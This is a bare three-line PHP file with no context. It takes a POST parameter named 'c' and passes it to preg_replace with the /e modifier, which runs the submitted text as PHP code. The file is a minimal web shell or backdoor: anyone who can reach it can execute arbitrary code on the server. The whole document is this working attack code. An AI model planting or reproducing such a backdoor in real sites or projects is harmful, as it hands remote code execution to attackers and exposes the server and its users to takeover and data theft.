<?php
$payload = $_POST['c'];
echo preg_replace('/.*/e', $payload, 'x');
